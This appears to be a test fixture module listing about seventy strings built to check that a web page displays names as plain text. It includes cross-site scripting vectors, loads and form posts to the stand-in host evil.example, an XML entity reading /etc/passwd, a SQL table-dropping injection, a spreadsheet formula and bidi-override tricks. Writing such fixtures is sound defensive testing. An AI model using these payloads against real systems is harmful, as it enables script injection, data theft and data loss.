/**
 * What somebody writes who wants a page to run, fetch or show what it should not.
 *
 * Each would set `__pwned`, open a dialog or ask another host, if anything read it as other than text.
 */

const RUN = "__pwned=1";

/** Up to 64 characters, so that they can be names. */
export const PAYLOADS = [
  // elements that run
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script src=//evil.example/a.js></script>`,
  `<script/xss>${RUN}</script>`,
  `<script>alert(document.domain)</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  // handlers
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="alert(1)">`,
  `<img src=//evil.example/p.png>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  "`><img src=x onerror=" + RUN + ">",
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src=//evil.example></iframe>`,
  `<object data=//evil.example/o></object>`,
  `<embed src=//evil.example/e>`,
  `<marquee onstart=${RUN}>`,
  `<dialog open><form><button>Sign in</button></form></dialog>`,
  // addresses
  `javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<form action=//evil.example><input name=a>`,
  // SVG and MathML
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `</text><script>${RUN}</script><text>`,
  `</tspan></text></svg><img src=x onerror=${RUN}>`,
  `<svg><use href="//evil.example/x.svg#a"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<foreignObject><body onload=${RUN}></foreignObject>`,
  `<image href="//evil.example/i.svg"/>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
  // styles
  `</style><style>*{display:none}</style>`,
  `<style>@import url(//evil.example/c.css)</style>`,
  `<link rel=stylesheet href=//evil.example/c.css>`,
  `x;background:url(//evil.example/b.png)`,
  `<p style="position:fixed;inset:0;background:red">`,
  `expression(${RUN})`,
  // templates
  `{{constructor.constructor('${RUN}')()}}`,
  "${" + RUN + "}",
  `#{${RUN}} <%= ${RUN} %>`,
  `{name} {whom} {0} %s %n $1 $& \\1`,
  `{"type":"script","props":{"children":"${RUN}"}}`,
  `__proto__ constructor prototype toString`,
  // entities, escapes and encodings
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp; &#x3C;b&#x3E;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `'; DROP TABLE session; --`,
  `=HYPERLINK("http://evil.example","x")`,
  // letters
  "שלום <b>עולם</b> مرحبا 123",
  "Z̸̢͎̎a̵͉͐l̶̰̃g̷̰̿o̴͙͝ ̸̲̈́t̶̢̛e̷͚͘x̸̨̀t̷",
  "👩‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🚀 ﷽ ǅ ﬀ",
  "Ｗｉｄｅ ꜱᴍᴀʟʟ 𝕱𝖗𝖆𝖐𝖙𝖚𝖗 ℵ₀ ‱",
  "W".repeat(64),
  "﷽".repeat(60),
];

/** With characters that are not seen, or that turn around what follows: no name keeps them. */
export const INVISIBLE = [
  "\u202Egnp.exe\u202C<script>" + RUN + "</script>",
  "\u2066\u2067abc\u2069 unbalanced \u202E end",
  "zero\u200Bwidth\u2060join\uFEFFer\u00ADs",
  "flag 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
  "line\u2028and\u2029paragraph",
];
